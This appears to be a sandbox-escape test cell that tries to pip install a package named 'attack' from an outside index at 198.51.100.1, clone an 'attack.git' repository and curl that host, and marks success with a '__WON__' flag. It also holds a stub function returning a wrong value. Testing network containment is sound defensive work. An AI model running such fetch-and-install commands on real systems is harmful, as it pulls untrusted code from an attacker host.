# about: Installs a package from the internet by pip, and clones a repository.
# prints: tried
# limits: {cell_seconds: 20}
# slow: true

# %% double
import socket

if socket.gethostname() != "sandbox":
    raise RuntimeError("only for a sandbox")

import subprocess
import sys

for command in (
    [sys.executable, "-m", "pip", "install", "--index-url=http://198.51.100.1/", "attack"],
    ["git", "clone", "https://198.51.100.1/attack.git"],
    ["curl", "--max-time", "2", "http://198.51.100.1/"],
):
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=8)
        print(command[0], done.returncode, done.stdout[-500:], done.stderr[-500:])
        print("__WON__" if done.returncode == 0 else "")
    except (OSError, subprocess.TimeoutExpired) as error:
        print(type(error))
print("tried")


def double(x):
    return 0
